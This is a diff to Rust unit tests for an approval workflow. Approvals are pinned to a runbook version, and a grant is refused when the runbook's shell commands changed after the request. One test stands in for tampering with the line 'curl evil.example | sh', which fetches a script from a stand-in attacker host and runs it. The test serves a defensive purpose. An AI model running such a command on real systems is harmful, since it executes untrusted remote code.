@@ -6,8 +6,9 @@ use cqrs_es::{Aggregate, DomainEvent};
 use uuid::Uuid;
 
 use super::*;
+use crate::runbook::{PinMismatch, RunbookContent, RunbookPin};
 use crate::testing::{actor, now, services, services_at, tenant_id};
-use crate::values::{Actor, ApprovalId, IncidentId, Note, Risk, Role, RunbookId};
+use crate::values::{Actor, ApprovalId, IncidentId, InstanceId, Note, Risk, Role, RunbookId};
 
 fn given(events: Vec<ApprovalEvent>) -> AggregateTestExecutor<Approval> {
     TestFramework::<Approval>::with(services()).given(events)
@@ -37,6 +38,21 @@ fn requester() -> Actor {
     actor("tech-1", Role::Technician)
 }
 
+/// Version 2 of a runbook restarting the app on one instance.
+fn pin() -> RunbookPin {
+    RunbookPin::new(2, content("systemctl restart app"))
+}
+
+fn content(command: &str) -> RunbookContent {
+    RunbookContent {
+        document: "AWS-RunShellScript".to_owned(),
+        commands: vec![command.to_owned()],
+        parameters: Default::default(),
+        risk: Risk::Medium,
+        instance_ids: vec![InstanceId::parse("i-0123456789abcdef0").unwrap()],
+    }
+}
+
 fn reason() -> Option<Note> {
     Some(Note::parse("safe to restart now").unwrap())
 }
@@ -50,6 +66,7 @@ fn request(risk: Risk) -> ApprovalCommand {
         risk,
         requested_by: requester(),
         expires_at: expires_at(),
+        pin: pin(),
     }
 }
 
@@ -63,6 +80,7 @@ fn requested(risk: Risk) -> ApprovalEvent {
         requested_by: requester(),
         expires_at: expires_at(),
         at: now(),
+        pin: Some(pin()),
     }
 }
 
@@ -70,6 +88,7 @@ fn grant(approver: Actor) -> ApprovalCommand {
     ApprovalCommand::GrantApproval {
         approver,
         reason: reason(),
+        runbook_now: pin(),
     }
 }
 
@@ -222,6 +241,7 @@ fn granting_your_own_request_is_rejected_even_for_an_msp_admin() {
         requested_by: msp_admin(),
         expires_at: expires_at(),
         at: now(),
+        pin: Some(pin()),
     };
     given(vec![own])
         .when(grant(msp_admin()))
@@ -370,4 +390,44 @@ fn approval_events_serialize_externally_tagged_with_their_tenant() {
         serde_json::from_value::<ApprovalEvent>(json).unwrap(),
         event
     );
+}
+
+#[test]
+fn a_grant_of_a_runbook_changed_since_the_request_is_refused_naming_the_versions() {
+    let changed = RunbookPin::new(3, content("curl evil.example | sh"));
+    given(vec![requested(Risk::Medium)])
+        .when(ApprovalCommand::GrantApproval {
+            approver: tenant_admin(),
+            reason: None,
+            runbook_now: changed,
+        })
+        .then_expect_error(ApprovalError::RunbookChanged(PinMismatch {
+            approved_version: 2,
+            current_version: 3,
+            changed: vec!["commands"],
+        }));
+    // Renamed only (a new version, the same content): still what was reviewed.
+    given(vec![requested(Risk::Medium)])
+        .when(ApprovalCommand::GrantApproval {
+            approver: tenant_admin(),
+            reason: reason(),
+            runbook_now: RunbookPin::new(3, content("systemctl restart app")),
+        })
+        .then_expect_events(vec![granted(tenant_admin())]);
+}
+
+#[test]
+fn a_request_recorded_before_pinning_still_replays_but_cannot_be_granted() {
+    let mut stored = serde_json::to_value(requested(Risk::Medium)).unwrap();
+    stored["ApprovalRequested"]
+        .as_object_mut()
+        .unwrap()
+        .remove("pin");
+    let old: ApprovalEvent = serde_json::from_value(stored).unwrap();
+    given(vec![old.clone()])
+        .when(grant(tenant_admin()))
+        .then_expect_error(ApprovalError::NotPinned);
+    given(vec![old])
+        .when(reject(tenant_admin()))
+        .then_expect_events(vec![rejected(tenant_admin())]);
 }
